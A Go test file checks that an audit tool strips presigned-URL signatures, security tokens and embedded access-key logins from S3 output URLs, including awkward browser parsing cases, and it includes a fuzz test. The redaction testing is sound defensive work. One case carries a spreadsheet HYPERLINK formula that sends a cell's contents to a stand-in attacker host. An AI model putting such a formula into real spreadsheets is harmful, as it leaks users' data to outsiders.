package audit_test

import (
	"bytes"
	"strings"
	"testing"

	"github.com/auditor-dev/auditor/audit"
)

// TestOutputURLWithoutCredentials: an S3 output URL whose query carries a
// request signature or credentials (a presigned URL, SigV4 or SigV2) is
// shown, and recorded, without that query; any other URL as it is.
func TestOutputURLWithoutCredentials(t *testing.T) {
	const bare = "https://ssm-out.s3.eu-west-1.amazonaws.com/run/i-0123456789abcdef0/stdout"
	tests := []struct {
		name, raw, want string
	}{
		{"plain", bare, bare},
		{"none", "", ""},
		{"other query kept", bare + "?versionId=3", bare + "?versionId=3"},
		{"hostile text kept", `=HYPERLINK("http://evil.example/?"&A1,"click")`, `=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"sigv4", bare + "?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=ASIAEXAMPLE%2F20250601%2Feu-west-1%2Fs3%2Faws4_request" +
			"&X-Amz-Date=20250601T120000Z&X-Amz-Expires=3600&X-Amz-Security-Token=TOKEN&X-Amz-SignedHeaders=host&X-Amz-Signature=abc123", bare},
		{"sigv4 with another parameter first", bare + "?versionId=3&X-Amz-Signature=abc123", bare + "?versionId=3"},
		{"sigv4 between other parameters", bare + "?versionId=3&X-Amz-Security-Token=TOKEN&partNumber=1", bare + "?versionId=3&partNumber=1"},
		{"a login", "https://AKIAEXAMPLE:secret@ssm-out.s3.amazonaws.com/run/stdout", "https://ssm-out.s3.amazonaws.com/run/stdout"},
		{"a login without a password", "https://AKIAEXAMPLE@ssm-out.s3.amazonaws.com/run/stdout", "https://ssm-out.s3.amazonaws.com/run/stdout"},
		{"a login and a signature", "https://AKIAEXAMPLE:secret@ssm-out.s3.amazonaws.com/run/stdout?X-Amz-Signature=abc123", "https://ssm-out.s3.amazonaws.com/run/stdout"},
		{"a login that does not parse", "https://AKIAEXAMPLE:sec#ret@ssm-out.s3.amazonaws.com/run/stdout", "ssm-out.s3.amazonaws.com/run/stdout"},
		{"an @ in the key kept", "https://s3.amazonaws.com/ssm-out/erin@example.com/stdout", "https://s3.amazonaws.com/ssm-out/erin@example.com/stdout"},
		// A browser reads a login in these too (the WHATWG URL standard
		// takes any slashes or backslashes after an http or https scheme,
		// or none), where net/url sees an opaque URL or a path.
		{"a login without the slashes", "https:AKIAEXAMPLE:secret@ssm-out.s3.amazonaws.com/run/stdout", "https:ssm-out.s3.amazonaws.com/run/stdout"},
		{"a login after one slash", "https:/AKIAEXAMPLE:secret@ssm-out.s3.amazonaws.com/run/stdout", "https:/ssm-out.s3.amazonaws.com/run/stdout"},
		{"a login after three slashes", "https:///AKIAEXAMPLE:secret@ssm-out.s3.amazonaws.com/run/stdout", "https:///ssm-out.s3.amazonaws.com/run/stdout"},
		{"a login after backslashes", `https:\\AKIAEXAMPLE:secret@ssm-out.s3.amazonaws.com\run\stdout`, `https:\\ssm-out.s3.amazonaws.com\run\stdout`},
		{"a login after a slash and a backslash", `https:/\AKIAEXAMPLE:secret@ssm-out.s3.amazonaws.com/run/stdout`, `https:/\ssm-out.s3.amazonaws.com/run/stdout`},
		{"a login without the slashes, upper case", "HTTPS:AKIAEXAMPLE@ssm-out.s3.amazonaws.com/run/stdout", "HTTPS:ssm-out.s3.amazonaws.com/run/stdout"},
		{"a login without the slashes, and a signature", "http:AKIAEXAMPLE:secret@ssm-out.s3.amazonaws.com/run/stdout?X-Amz-Signature=abc123",
			"http:ssm-out.s3.amazonaws.com/run/stdout"},
		{"an @ in the key kept after one slash", "https:/s3.amazonaws.com/ssm-out/erin@example.com/stdout", "https:/s3.amazonaws.com/ssm-out/erin@example.com/stdout"},
		{"an @ in the key kept after backslashes", `https:\\s3.amazonaws.com\ssm-out\erin@example.com\stdout`, `https:\\s3.amazonaws.com\ssm-out\erin@example.com\stdout`},
		{"an @ in the query kept without the slashes", "https:s3.amazonaws.com/ssm-out/stdout?owner=erin@example.com", "https:s3.amazonaws.com/ssm-out/stdout?owner=erin@example.com"},
		{"another scheme's @ kept", "mailto:erin@example.com", "mailto:erin@example.com"},
		// A secret access key holds '/' and '+' as often as not: the login
		// runs past the first '/', which a browser takes for the end of a
		// host whose port is not a number, and net/url for the end of an
		// authority that does not parse.
		{"a secret with slashes, without the slashes", "https:AKIAEXAMPLE:wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY@ssm-out.s3.amazonaws.com/run/stdout",
			"https:ssm-out.s3.amazonaws.com/run/stdout"},
		{"a secret with a slash, after one slash", "https:/AKIAEXAMPLE:wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY@ssm-out.s3.amazonaws.com/run/stdout",
			"https:/ssm-out.s3.amazonaws.com/run/stdout"},
		{"a secret with a slash, after backslashes", `https:\\AKIAEXAMPLE:wJalrXUtnFEMI/K7MDENG@ssm-out.s3.amazonaws.com\run\stdout`,
			`https:\\ssm-out.s3.amazonaws.com\run\stdout`},
		{"a secret with a backslash, without the slashes", `https:AKIAEXAMPLE:wJalrXUtnFEMI\K7MDENG@ssm-out.s3.amazonaws.com/run/stdout`,
			"https:ssm-out.s3.amazonaws.com/run/stdout"},
		{"a secret with a ? and a #, without the slashes", "https:AKIAEXAMPLE:wJal?rXUtnFEMI#K7MDENG@ssm-out.s3.amazonaws.com/run/stdout",
			"https:ssm-out.s3.amazonaws.com/run/stdout"},
		{"a secret with a slash, and an @ in the key kept", "https:AKIAEXAMPLE:wJalrXUtnFEMI/K7MDENG@ssm-out.s3.amazonaws.com/erin@example.com/stdout",
			"https:ssm-out.s3.amazonaws.com/erin@example.com/stdout"},
		{"a secret with a slash, after two slashes", "https://AKIAEXAMPLE:wJalrXUtnFEMI/K7MDENG@ssm-out.s3.amazonaws.com/run/stdout",
			"ssm-out.s3.amazonaws.com/run/stdout"},
		{"a secret with a ?, after two slashes", "https://AKIAEXAMPLE:wJal?rXUtnFEMI@ssm-out.s3.amazonaws.com/run/stdout",
			"ssm-out.s3.amazonaws.com/run/stdout"},
		{"a port and an @ in the key kept", "https://minio.example:9000/ssm-out/erin@example.com/stdout", "https://minio.example:9000/ssm-out/erin@example.com/stdout"},
		{"a port and an @ in the key kept without the slashes", "https:minio.example:9000/ssm-out/erin@example.com/stdout",
			"https:minio.example:9000/ssm-out/erin@example.com/stdout"},
		{"an IPv6 host and an @ in the key kept without the slashes", "https:[::1]:9000/ssm-out/erin@example.com/stdout", "https:[::1]:9000/ssm-out/erin@example.com/stdout"},
		{"an @ in the query kept after a port", "https:minio.example:9000/ssm-out/stdout?owner=erin@example.com", "https:minio.example:9000/ssm-out/stdout?owner=erin@example.com"},
		{"an @ in an s3 key kept", "s3://ssm-out/reports@2026/stdout", "s3://ssm-out/reports@2026/stdout"},
		// S3 keys may hold '#', which SSM may send as it is: what follows
		// it is the key, not a fragment to cut.
		{"a # in the key kept", "https://s3.amazonaws.com/bucket/build#12/i-0123456789abcdef0/UpdateAVSignatures/stdout",
			"https://s3.amazonaws.com/bucket/build#12/i-0123456789abcdef0/UpdateAVSignatures/stdout"},
		{"an escaped # in the key kept", "https://s3.amazonaws.com/bucket/build%2312/i-0123456789abcdef0/UpdateAVSignatures/stdout",
			"https://s3.amazonaws.com/bucket/build%2312/i-0123456789abcdef0/UpdateAVSignatures/stdout"},
		{"a # in the key, then a signature", "https://s3.amazonaws.com/bucket/build#12/stdout?X-Amz-Signature=abc123",
			"https://s3.amazonaws.com/bucket/build#12/stdout"},
		{"signature in a path step kept", bare + "/Signatures/stdout?versionId=3", bare + "/Signatures/stdout?versionId=3"},
		{"an empty query kept", bare + "?", bare + "?"},
		{"a value named like a parameter kept", bare + "?prefix=X-Amz-Signature", bare + "?prefix=X-Amz-Signature"},
		{"sigv2", bare + "?AWSAccessKeyId=AKIAEXAMPLE&Expires=1748779200&Signature=vjbyPxybdZaNmGa%2ByT272YEAiv4%3D", bare},
		{"lower case", bare + "?x-amz-security-token=TOKEN", bare},
		{"names escaped", bare + "?X%2DAmz%2DSignature=abc123", bare},
		{"in the fragment", bare + "#X-Amz-Security-Token=TOKEN", bare},
		{"s3 scheme", "s3://ssm-out/run/stdout?X-Amz-Credential=ASIAEXAMPLE", "s3://ssm-out/run/stdout"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := audit.Association{AssociationID: "a-1", OutputURL: &audit.OutputURL{S3OutputURL: &audit.S3OutputURL{OutputURL: tt.raw}}}
			if got := a.URL(); got != tt.want {
				t.Errorf("URL() = %q, want %q", got, tt.want)
			}
			var line bytes.Buffer
			if err := audit.EncodeResult(&line, audit.Result{InstanceID: "i-0123456789abcdef0", Outcome: audit.OutcomeCompliant,
				Associations: []audit.Association{a}}); err != nil {
				t.Fatal(err)
			}
			for _, secret := range []string{"TOKEN", "abc123", "AKIAEXAMPLE", "ASIAEXAMPLE", "vjbyPxybdZaNmGa", "secret", "sec#ret", "wJal", "K7MDENG"} {
				if strings.Contains(tt.raw, secret) && strings.Contains(line.String(), secret) {
					t.Errorf("the record holds %q: %s", secret, line.String())
				}
			}
			if tt.raw != "" && !strings.Contains(line.String(), `"OutputUrl":`) {
				t.Errorf("the record lost the output URL: %s", line.String())
			}
			if tt.raw == "" && a.URL() != "" {
				t.Errorf("an empty URL became %q", a.URL())
			}
		})
	}
	// The association given is not changed: it is the caller's.
	raw := bare + "?X-Amz-Signature=abc123"
	a := audit.Association{OutputURL: &audit.OutputURL{S3OutputURL: &audit.S3OutputURL{OutputURL: raw}}}
	var line bytes.Buffer
	if err := audit.EncodeResult(&line, audit.Result{InstanceID: "i-0123456789abcdef0", Outcome: audit.OutcomeCompliant, Associations: []audit.Association{a}}); err != nil {
		t.Fatal(err)
	}
	if a.OutputURL.S3OutputURL.OutputURL != raw {
		t.Errorf("EncodeResult changed its argument's URL to %q", a.OutputURL.S3OutputURL.OutputURL)
	}
}

// FuzzOutputURLLogin: a login of an access key and any secret without an
// '@', after an https scheme and any slashes or backslashes, is not kept,
// whatever the secret holds ('/', '?', '#', '\'), unless the secret's
// text before the first of those is digits alone: then a browser, and
// net/url, read a host and a port, and the rest as its key.
func FuzzOutputURLLogin(f *testing.F) {
	for _, s := range []string{"secret", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "a+b/c", "a?b", "a#b", `a\b`, "x:y/z", "[x/y", "%zz/y", "", "123", "12/x", `\`} {
		for _, sep := range []string{"", "/", "//", "///", `\\`, `/\`} {
			f.Add(sep, s)
		}
	}
	f.Fuzz(func(t *testing.T, sep, secret string) {
		if strings.Trim(sep, `/\`) != "" || len(sep) > 4 || strings.Contains(secret, "@") {
			t.Skip("not a login before a host")
		}
		if head, _, ok := strings.Cut(strings.NewReplacer(`\`, "/", "?", "/", "#", "/").Replace(secret), "/"); ok && strings.Trim(head, "0123456789") == "" {
			t.Skip("a host and a port: no browser reads a login")
		}
		raw := "https:" + sep + "AKIAFUZZEXAMPLE:" + secret + "@ssm-out.s3.amazonaws.com/run/stdout"
		a := audit.Association{OutputURL: &audit.OutputURL{S3OutputURL: &audit.S3OutputURL{OutputURL: raw}}}
		if got := a.URL(); strings.Contains(got, "AKIAFUZZEXAMPLE") || !strings.HasSuffix(got, "ssm-out.s3.amazonaws.com/run/stdout") {
			t.Errorf("URL() of %q = %q, want it without the login and with the host and key", raw, got)
		}
	})
}
